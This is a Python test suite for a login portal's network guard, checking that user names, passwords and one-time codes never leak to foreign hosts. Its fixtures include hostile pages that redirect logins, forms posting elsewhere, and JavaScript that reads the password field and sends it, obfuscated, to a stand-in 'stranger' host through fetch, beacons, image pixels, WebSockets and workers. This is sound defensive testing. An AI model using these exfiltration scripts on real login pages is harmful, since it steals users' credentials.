"""A login led astray, in every shape that was thought of: nothing leaves, nothing is kept, the account stops.

Through the real portal, with a real browser, against hosts that say and do what they like. No host but the login's is
ever told user name, password or code.
"""

from __future__ import annotations

import re

import pytest
from aiohttp import web

from domain.errors import (
    LoginBlocked,
    LoginDiverted,
    LoginInterrupted,
    LoginRejected,
    LoginUnavailable,
    SiteError,
    SiteUnavailable,
)
from portal.login.network_guard import NetworkGuard
from tests.support.hostile import to
from tests.support.login_fixtures import (  # noqa: F401 - fixtures
    HOME,
    OTP_FORM,
    PASSWORD_FORM,
    RETURN,
    TILE,
    Attempt,
    Hosts,
    attempt,
    hosts,
)
from tests.support.sites import PASSWORD, credentials

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def test_an_honest_login_goes_through_and_keeps_its_own_cookies_only(attempt: Attempt, hosts: Hosts) -> None:
    cookie = {"Set-Cookie": "who=me; Path=/", "Content-Type": "text/html"}
    pixel = f"<img src='{hosts['stranger'].address}/pixel'>"
    hosts["stranger"].pages["/pixel"] = web.Response(headers=cookie)
    hosts["login"].pages["/aunicalogin"] = web.Response(text=PASSWORD_FORM + pixel, headers=cookie)
    hosts["booking"].pages[f"{HOME}/"] = web.Response(text=TILE, headers=cookie)
    await attempt.session.renew()
    state = attempt.store.load()
    assert state is not None
    assert {each["domain"] for each in state["cookies"]} == {"127.0.0.1", "localhost"}
    assert hosts["stranger"].received
    assert hosts["login"].told(f"password={PASSWORD}")
    attempt.kept_to_itself()


async def test_what_another_site_left_in_an_old_session_is_not_taken_up(attempt: Attempt) -> None:
    cookies = [{"name": "x", "value": "y", "domain": domain, "path": "/"} for domain in ("127.0.0.1", "127.0.0.2")]
    attempt.store.save({"cookies": cookies, "origins": []})
    stored = attempt.stored.state()
    assert stored is not None
    assert [each["domain"] for each in stored["cookies"]] == ["127.0.0.1"]


# ----- the shapes: {stranger}, {login}, {booking} are addresses

BEFORE_THE_PASSWORD = {
    "the login page redirects elsewhere": ("booking", f"{HOME}/Account/Login", "-> {stranger}/"),
    "its button is a link elsewhere": (
        "booking",
        f"{HOME}/Account/Login",
        "<a href='{stranger}/?x=1'>Accedi al tuo account</a>",
    ),
    "three hops away": ("login", "/aunicalogin", "-> {booking}/hop"),
    "a script goes elsewhere": ("login", "/aunicalogin", "<script>location = '{stranger}/'</script>"),
    "another port of the login's machine": ("booking", f"{HOME}/sso", "-> http://localhost:{port}/"),
    "a name before the address": ("booking", f"{HOME}/sso", "-> http://{login_host}@{stranger_host}/"),
    "the booking site's own page asks for it": ("booking", f"{HOME}/Account/Login", PASSWORD_FORM),
    "the booking site's own page asks for it after a detour": ("login", "/aunicalogin", "-> {booking}/asks"),
    "the form posts elsewhere": ("login", "/aunicalogin", PASSWORD_FORM.replace("/password", "{stranger}/")),
}


def arrange(hosts: Hosts, host: str, path: str, page: str) -> None:
    """Puts a page, or with an arrow a redirect, on a host; the stranger imitates every page of the login."""
    stranger = hosts["stranger"]
    names = {name: each.address for name, each in hosts.items()}
    names |= {f"{name}_host": each.address.removeprefix("http://") for name, each in hosts.items()}
    names["port"] = stranger.address.rpartition(":")[2]
    for name, value in names.items():
        page = page.replace(f"{{{name}}}", value)
    status, arrow, target = page.partition("-> ")
    hosts[host].pages[path] = to(target, int(status or 302)) if arrow else page
    hosts["booking"].pages |= {"/hop": to(stranger.address + "/"), "/asks": PASSWORD_FORM, "/code": OTP_FORM}
    stranger.pages["/"] = PASSWORD_FORM + OTP_FORM + TILE


@pytest.mark.parametrize("shape", BEFORE_THE_PASSWORD)
async def test_nothing_is_typed_where_it_does_not_belong(attempt: Attempt, hosts: Hosts, shape: str) -> None:
    arrange(hosts, *BEFORE_THE_PASSWORD[shape])
    said = await attempt.diverted()
    assert re.search(r"http://[\w.]+:\d+/|data:|javascript:", said)
    assert "?" not in said
    assert hosts["stranger"].received == []
    assert not hosts["login"].told(PASSWORD)


AFTER_THE_PASSWORD = {
    "the form turns elsewhere as it is sent": PASSWORD_FORM.replace("<form ", "<form onsubmit='action=`{stranger}/`' "),
    "the form would put it in an address": PASSWORD_FORM.replace("method=post", "method=get"),
    "307": PASSWORD_FORM.replace("/password", "/307"),
    "308 to the booking site": PASSWORD_FORM.replace("/password", "/308"),
    "307 at the third hop": PASSWORD_FORM.replace("/password", "/again"),
    "307 in a frame": "<iframe name=inside></iframe>"
    + PASSWORD_FORM.replace("<form ", "<form onsubmit='target=`inside`' ").replace("/password", "/307"),
    "307 in a new window": PASSWORD_FORM.replace("<form ", "<form onsubmit='target=`_blank`' ").replace(
        "/password", "/307"
    ),
    "a script's requests": """{script:
      const body = new Blob([JSON.stringify({p})])
      fetch(`/307`, {method: `POST`, body: `p=${p}`, mode})
      fetch(`/308`, {method: `POST`, body: p, mode, keepalive: true})
      fetch(`{booking}/x`, {method: `POST`, body: p, mode})
      fetch(`{booking}/x`, {method: `POST`, body, mode})
      fetch(`{booking}/x?d=${btoa(`x:${p}`)}`, {mode})
      navigator.sendBeacon(`/307`, p)
      navigator.sendBeacon(`{booking}/x`, new URLSearchParams({p}))
      new Image().src = `{booking}/x?p=${encodeURIComponent(p)}`
      const frame = document.createElement(`iframe`)
      frame.src = `{booking}/x?p=${escape(p)}`
      document.body.append(frame)
    }""",
    "a script goes to the booking site": "{script:location = `{booking}/x?p=${p}`}",
}
SCRIPT = """<script>const mode = `no-cors`
password.addEventListener("input", () => {{ const p = password.value; {0} }})</script>"""


def scripted(page: str) -> str:
    """A password page with a script that sees what is typed."""
    head, found, rest = page.partition("{script:")
    return PASSWORD_FORM + SCRIPT.format(rest.removesuffix("}")) if found else head


@pytest.mark.parametrize("shape", AFTER_THE_PASSWORD)
async def test_what_was_typed_is_stopped_on_its_way(attempt: Attempt, hosts: Hosts, shape: str) -> None:
    hosts["login"].pages |= {
        "/307": to(hosts["stranger"].address + "/", 307),
        "/308": to(hosts["booking"].address + "/x", 308),
        "/again": to("/307", 307),
    }
    arrange(hosts, "login", "/aunicalogin", scripted(AFTER_THE_PASSWORD[shape]))
    await attempt.diverted()
    assert not any(PASSWORD in request.partition("\n")[0] for request in hosts["login"].received)


TO_A_STRANGER = """{script:
  const ignored = work => { try { work() } catch (error) { console.log(error) } }
  const hidden = [...p].map(letter => letter.charCodeAt() ^ 7)
  const frame = document.createElement(`iframe`), link = document.createElement(`a`)
  document.body.append(frame)
  link.href = `#`
  link.ping = `{stranger}/?h=${hidden}`
  ignored(() => link.click())
  ignored(() => fetch(`{stranger}/?h=${hidden}`, {mode}))
  ignored(() => fetch(`{stranger}/?u=${login.value}`, {mode}))
  ignored(() => navigator.sendBeacon(`{stranger}/`, `${hidden}`))
  ignored(() => new Image().src = `{stranger}/?h=${hidden}`)
  ignored(() => new WebSocket(`ws://{stranger_host}/?h=${hidden}`))
  ignored(() => new frame.contentWindow.WebSocket(`ws://{stranger_host}/?h=${hidden}`))
  ignored(() => new Worker(URL.createObjectURL(new Blob([`fetch('{stranger}/?h=${hidden}')`]))))
  ignored(() => open(`{stranger}/?h=${hidden}`))
  document.body.style.background = `url({stranger}/?h=${hidden})`
  document.head.insertAdjacentHTML(`beforeend`, `<link rel=prefetch href="{stranger}/?h=${hidden}">`)
}"""


async def test_once_something_is_typed_nothing_reaches_a_stranger_however_it_is_hidden(
    attempt: Attempt, hosts: Hosts
) -> None:
    arrange(hosts, "login", "/aunicalogin", scripted(TO_A_STRANGER))
    await attempt.session.renew()
    attempt.kept_to_itself()
    assert hosts["stranger"].received == []


AT_THE_CODE = {
    "the code page is elsewhere, three hops away": ("login", "/password", "-> {booking}/hop"),
    "the code page is the booking site's": ("login", "/password", "-> {booking}/code"),
    "the code's form posts elsewhere": ("login", "/password", OTP_FORM.replace("/otp", "{stranger}/")),
    "the code is passed on": ("login", "/otp", "307-> {stranger}/"),
    "the password is asked for again by the booking site": ("login", "/password", "-> {booking}/asks"),
    "the end is elsewhere, three hops away": ("login", "/otp", "-> {booking}/hop"),
    "a form that sends itself elsewhere": ("login", "/otp", RETURN.format("{stranger}/")),
    "the login host says it is the end": ("login", "/otp", TILE),
    "another site of the booking site's host says it is the end": ("login", "/otp", "-> {booking}/another/"),
}


@pytest.mark.parametrize("shape", AT_THE_CODE)
async def test_the_code_and_the_end_are_where_they_should_be(attempt: Attempt, hosts: Hosts, shape: str) -> None:
    arrange(hosts, *AT_THE_CODE[shape])
    hosts["booking"].pages["/another/"] = TILE
    await attempt.diverted()
    assert hosts["stranger"].received == []


async def test_who_waited_for_a_login_that_was_led_astray_does_not_try_it(attempt: Attempt, hosts: Hosts) -> None:
    arrange(hosts, "booking", f"{HOME}/Account/Login", "-> {stranger}/")
    await attempt.diverted()
    hosts["booking"].received.clear()
    with pytest.raises(LoginDiverted, match=hosts["stranger"].address):
        await attempt.session.renew()
    stop = attempt.store.rejection_since(0)
    assert isinstance(stop, LoginDiverted)
    assert hosts["booking"].received == []


# ----- other ends


@pytest.mark.parametrize(
    ("where", "kind", "opener"),
    [
        ("login", LoginBlocked, "<a target=_blank href='{0}'>{1}</a>"),
        ("stranger", LoginDiverted, "<button onclick='window.open(`{0}`)'>{1}</button>"),
    ],
)
async def test_a_login_that_goes_on_in_another_window_is_told_with_its_address(
    attempt: Attempt, hosts: Hosts, where: str, kind: type[SiteError], opener: str
) -> None:
    attempt.configure(timeout_seconds=4.0)
    address = hosts[where].address + "/aunicalogin"
    hosts["booking"].pages[f"{HOME}/Account/Login"] = opener.format(address, "Accedi al tuo account")
    with pytest.raises(SiteError, match=address) as caught:
        await attempt.session.renew()
    assert type(caught.value) is kind
    assert attempt.store.rejection_since(0) is not None
    assert not any(host.told(PASSWORD) for host in hosts.values())
    assert hosts[where].received == []


@pytest.mark.parametrize(
    ("asked_again", "kind", "words"),
    [
        ("<p class=alert>Sessione scaduta: accedi di nuovo.</p>" + PASSWORD_FORM, LoginBlocked, "Sessione scaduta"),
        (
            "<p>Scegli una nuova password</p><input type=password><input type=password>",
            LoginBlocked,
            "Scegli una nuova",
        ),
        ("<p class=alert>Password scaduta o errata</p>" + PASSWORD_FORM, LoginRejected, "scaduta o errata"),
    ],
)
async def test_not_every_page_that_asks_for_a_password_again_has_refused_the_one_that_was_sent(
    attempt: Attempt, hosts: Hosts, asked_again: str, kind: type[SiteError], words: str
) -> None:
    hosts["login"].pages["/password"] = asked_again
    with pytest.raises(SiteError, match=words) as caught:
        await attempt.session.renew()
    assert type(caught.value) is kind
    assert len([request for request in hosts["login"].received if PASSWORD in request]) == 1


@pytest.mark.parametrize(
    "nonsense",
    [
        web.Response(text='{"logout":1}', content_type="application/json"),
        web.Response(text="<h1>Server Error in '/sportpolimi' Application.</h1>", content_type="text/html", status=500),
        "<title>Errore</title><h1>Si &egrave; verificato un errore</h1>",
    ],
    ids=["ended", "500", "error page"],
)
async def test_nonsense_of_the_booking_site_after_a_good_login_is_the_sites_trouble_and_sends_one_password(
    attempt: Attempt, hosts: Hosts, nonsense: str | web.Response
) -> None:
    attempt.configure(timeout_seconds=4.0)
    hosts["booking"].pages[f"{HOME}/"] = nonsense
    for _ in range(2):
        with pytest.raises(SiteError) as caught:
            await attempt.session.renew()
        assert type(caught.value) is LoginInterrupted, caught.value
    assert isinstance(attempt.store.rejection_since(0), LoginInterrupted)  # for other processes
    assert len([request for request in hosts["login"].received if PASSWORD in request]) == 1


async def test_nonsense_before_anything_was_typed_is_plain_trouble_of_the_site(attempt: Attempt, hosts: Hosts) -> None:
    ended = web.Response(text='{"logout":1}', content_type="application/json")
    hosts["booking"].pages[f"{HOME}/Account/Login"] = ended
    with pytest.raises(SiteError) as caught:
        await attempt.session.renew()
    assert type(caught.value) is SiteUnavailable, caught.value


@pytest.mark.parametrize(("status", "kind"), [(302, LoginUnavailable), (307, LoginDiverted)])
async def test_a_plain_stop_on_the_way_to_the_login_is_made_over_https_unless_it_carries_something(
    attempt: Attempt, hosts: Hosts, status: int, kind: type[SiteError]
) -> None:
    """The button posts: with 302 a plain GET follows, with 307 what was posted. Nobody answers to that name."""
    plain = "http://aunicalogin.invalid/service"
    named = (*attempt.access.login_hosts, "aunicalogin.invalid")
    attempt.configure(login_hosts=named, timeout_seconds=4.0)
    hosts["booking"].pages[f"{HOME}/sso"] = to(plain, status)
    with pytest.raises(SiteError) as caught:
        await attempt.session.renew()
    assert type(caught.value) is kind, caught.value
    assert (plain.replace("http:", "https:") in str(caught.value)) == (kind is LoginUnavailable)


async def test_what_is_a_password_of_one_account_may_be_a_word_of_anothers_login(
    attempt: Attempt, hosts: Hosts
) -> None:
    hosts["login"].pages |= {
        "/aunicalogin": PASSWORD_FORM.replace("/password", "/Servizi-Online9"),
        "/Servizi-Online9": OTP_FORM,
    }
    other = credentials(99, password="Servizi-Online9")
    async with (
        attempt.portal.resources.pages.opened(None) as page,
        NetworkGuard(page, attempt.access.places, other) as guard,
    ):
        guard.typing()
        await attempt.session.renew()
        assert await guard.verdict() is None
